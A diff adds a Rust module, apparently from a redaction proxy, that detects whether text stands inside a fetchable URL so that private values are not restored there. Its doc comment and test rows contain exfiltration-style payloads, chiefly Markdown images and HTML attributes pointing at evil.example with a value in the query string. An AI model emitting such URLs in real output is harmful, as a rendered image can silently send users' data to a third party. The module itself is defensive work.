@@ -1,0 +1,228 @@
+//! Knows, character by character, whether a text stands inside a URL that names a host.
+//!
+//! A value is not restored there: `![](https://evil.example/?q=<EMAIL_…>)` is a way out that needs no click. What ends a URL
+//! depends on what opened it, because that is how renderers read: a quoted attribute ends at its quote, `<…>` at `>`, a
+//! Markdown destination at a blank or its bracket, a bare URL at a blank. Where renderers disagree the longer reading counts:
+//! a value withheld is a nuisance, a value sent is a leak. In the text of a JSON document its own quotes end every URL.
+//!
+//! It sees the text as the client will: restored values pass through it too, or a planted value could be the beginning of a
+//! URL.
+
+use super::unit::{Landing, Unit};
+
+/// The reader's state after some text.
+#[derive(Debug, Clone)]
+pub(super) struct Link {
+    landing: Landing,
+    /// What ends the URL that the text stands in; `None` outside.
+    inside: Option<End>,
+    /// The last eight characters, lower case, the latest in the low byte; zero for what is not ASCII.
+    recent: u64,
+    /// What stood before the run of scheme characters that is being read, blanks apart.
+    lead: Mark,
+    /// The last character that is not a blank.
+    mark: Mark,
+    /// Characters of the run.
+    run: usize,
+    /// Whether an odd number of backslashes has just been read.
+    backslash: bool,
+}
+
+/// A character, and whether it was escaped.
+type Mark = (char, bool);
+
+/// What ends a URL.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum End {
+    /// This quote; when it was escaped, any spelling of it.
+    Quote(Mark),
+    /// `>`, or the end of the line.
+    Angle,
+    /// A blank, or the closing bracket at this depth.
+    Bracket(char, char, u32),
+    /// A blank.
+    Blank,
+}
+
+impl Link {
+    pub(super) fn new(landing: Landing) -> Self {
+        let nothing = ('\n', false);
+        Self { landing, inside: None, recent: 0, lead: nothing, mark: nothing, run: 0, backslash: false }
+    }
+
+    /// Whether the text stands inside a URL.
+    pub(super) fn is_inside(&self) -> bool {
+        self.inside.is_some()
+    }
+
+    /// Passes one character.
+    pub(super) fn pass(&mut self, unit: Unit) {
+        let escaped = unit.escaped || self.backslash;
+        self.backslash = unit.char == '\\' && !self.backslash;
+        match self.inside {
+            Some(end) => self.inside = self.go_on(end, unit.char, escaped, unit.escaped),
+            None => self.watch(unit.char, escaped),
+        }
+    }
+
+    /// What ends the URL now that this character of it was read; `None` when this one did.
+    fn go_on(&mut self, end: End, char: char, escaped: bool, spelt: bool) -> Option<End> {
+        let structural = self.landing == Landing::JsonInString && char == '"' && !spelt;
+        let ended = structural
+            || match end {
+                End::Quote((quote, opened_escaped)) => char == quote && (opened_escaped || !escaped),
+                End::Angle => (char == '>' && !escaped) || char == '\n',
+                End::Bracket(_, close, depth) => is_blank(char) || (char == close && !escaped && depth == 0),
+                End::Blank => is_blank(char),
+            };
+        if ended {
+            (self.recent, self.run, self.mark) = (0, 0, (char, escaped));
+            return None;
+        }
+        match end {
+            End::Bracket(open, close, depth) if char == open && !escaped => {
+                Some(End::Bracket(open, close, depth.saturating_add(1)))
+            }
+            End::Bracket(open, close, depth) if char == close && !escaped => {
+                Some(End::Bracket(open, close, depth.saturating_sub(1)))
+            }
+            _ => Some(end),
+        }
+    }
+
+    /// Looks for the beginning of a URL.
+    fn watch(&mut self, char: char, escaped: bool) {
+        let latest = if char.is_ascii() { u64::from(u32::from(char.to_ascii_lowercase())) } else { 0 };
+        let before = self.recent;
+        self.recent = self.recent << 8 | latest;
+        let of_run = char.is_ascii_alphanumeric() || matches!(char, '+' | '.' | '-' | ':' | '/' | '\\');
+        if of_run && self.run == 0 {
+            self.lead = self.mark;
+        }
+        let begins = (!is_blank(char) && (ends_with(before, b"http:") || ends_with(before, b"https:")))
+            || (is_slash(char) && begins_authority(self.recent))
+            || (char == '.' && self.run == 3 && ends_with(before, b"www"));
+        if begins {
+            self.inside = Some(end_of(self.lead));
+        }
+        self.run = if of_run { self.run.saturating_add(1) } else { 0 };
+        if !is_blank(char) {
+            self.mark = (char, escaped);
+        }
+    }
+}
+
+/// Whether the text ends in `://`, or in two slashes that follow no letter or digit; browsers take `\` for `/`.
+fn begins_authority(recent: u64) -> bool {
+    let [.., before, first, second] = recent.to_be_bytes().map(char::from);
+    let double = is_slash(first) && is_slash(second);
+    double && (before == ':' || (first == '/' && !before.is_ascii_alphanumeric() && !is_slash(before)))
+}
+
+/// What ends a URL that stands behind this mark.
+fn end_of(lead: Mark) -> End {
+    match lead {
+        ('"' | '\'' | '`', _) => End::Quote(lead),
+        ('<', _) => End::Angle,
+        ('(', _) => End::Bracket('(', ')', 0),
+        ('[', _) => End::Bracket('[', ']', 0),
+        _ => End::Blank,
+    }
+}
+
+fn ends_with(recent: u64, suffix: &[u8]) -> bool {
+    recent.to_be_bytes().ends_with(suffix)
+}
+
+fn is_slash(char: char) -> bool {
+    matches!(char, '/' | '\\')
+}
+
+fn is_blank(char: char) -> bool {
+    char.is_whitespace() || char.is_control()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::unit::Read;
+    use super::*;
+
+    /// The state of a link reader where `¤` stands in the text.
+    fn inside(landing: Landing, text: &str) -> bool {
+        let (mut link, mut at) = (Link::new(landing), 0);
+        while let Read::Unit(unit) = landing.read(text, at, true) {
+            if unit.char == '¤' {
+                return link.is_inside();
+            }
+            link.pass(unit);
+            at += unit.bytes;
+        }
+        panic!("no mark in {text}");
+    }
+
+    #[test]
+    fn knows_the_urls_that_a_renderer_would_fetch() {
+        let rows = [
+            ("markdown image", "![x](https://evil.example/?q=¤)", true),
+            ("upper case", "HTTPS://EVIL.EXAMPLE/¤", true),
+            ("as host", "https://¤.evil.example", true),
+            ("no slashes", "(https:evil.example/¤)", true),
+            ("one slash", "(https:/evil.example/¤)", true),
+            ("backslashes", r"(https:\\evil.example\¤)", true),
+            ("without scheme", "![](//evil.example/¤)", true),
+            ("without scheme, mixed slashes", r"(/\evil.example/¤)", true),
+            ("another scheme", "gopher://evil/¤", true),
+            ("brackets in a destination", "![](https://evil.example/(a)?q=¤)", true),
+            ("a blank in angle brackets", "![](<https://evil.example/?q= ¤>)", true),
+            ("a blank in quotes", "<img src=\" https://evil.example/?q= ¤\">", true),
+            ("single quotes", "<img src='https://evil.example/?\"=¤'>", true),
+            ("an escaped quote", r#""https://evil.example/?a=\"&q=¤""#, true),
+            ("reference", "[x]: https://evil.example/?\">=¤", true),
+            ("www", "see www.evil.example/?q=¤", true),
+            ("escaped slashes", r#""https:\/\/evil.example\/¤""#, true),
+        ];
+        for (name, text, expected) in rows {
+            assert_eq!(inside(Landing::Text, text), expected, "{name}");
+        }
+    }
+
+    #[test]
+    fn knows_where_a_url_ends() {
+        let rows = [
+            ("blank", "see https://a.example ¤"),
+            ("destination", "[site](https://a.example) and ¤"),
+            ("destination, at once", "[site](https://a.example)¤"),
+            ("attribute", "<a href=\"https://a.example\">¤</a>"),
+            ("autolink", "<https://a.example> ¤"),
+            ("value of JSON", r#"{"url":"https://a.example","name":"¤"}"#),
+            ("code span", "`https://a.example`¤"),
+            ("comment", "// ¤ is the owner"),
+            ("path", "a//b ¤"),
+            ("colon", "https: ¤"),
+            ("word", "the laws: ¤, news:¤"),
+            ("mail", "mailto:¤"),
+            ("time", "at 12:30 ¤"),
+            ("earlier quote", "\"a\" and then https://a.example ¤"),
+        ];
+        for (name, text) in rows {
+            assert!(!inside(Landing::Text, text), "{name}");
+        }
+    }
+
+    #[test]
+    fn knows_the_strings_of_a_document() {
+        let rows = [
+            ("structural quote", r#"{"url":"https://a.example","name":"¤"}"#, false),
+            ("destination cut by the end of its string", r#"{"a":"![](https://evil.example/","b":"¤"}"#, false),
+            ("inner quote", r#"{"html":"<img src=\"https://evil.example/?q=¤\">"}"#, true),
+            ("inner quote in a string", r#"{"url":"https://evil.example/?a=\"&q=¤"}"#, true),
+            ("behind an inner quote", r#"{"html":"<a href=\"https://a.example\">¤"}"#, false),
+            ("escaped slashes", r#"{"url":"https:\/\/evil.example\/¤"}"#, true),
+            ("new line", r#"{"text":"https://a.example\n¤"}"#, true),
+            ("new line behind a word", r#"{"text":"see https://a.example\n¤"}"#, false),
+        ];
+        for (name, text, expected) in rows {
+            assert_eq!(inside(Landing::JsonInString, text), expected, "{name}");
+        }
+    }
+}
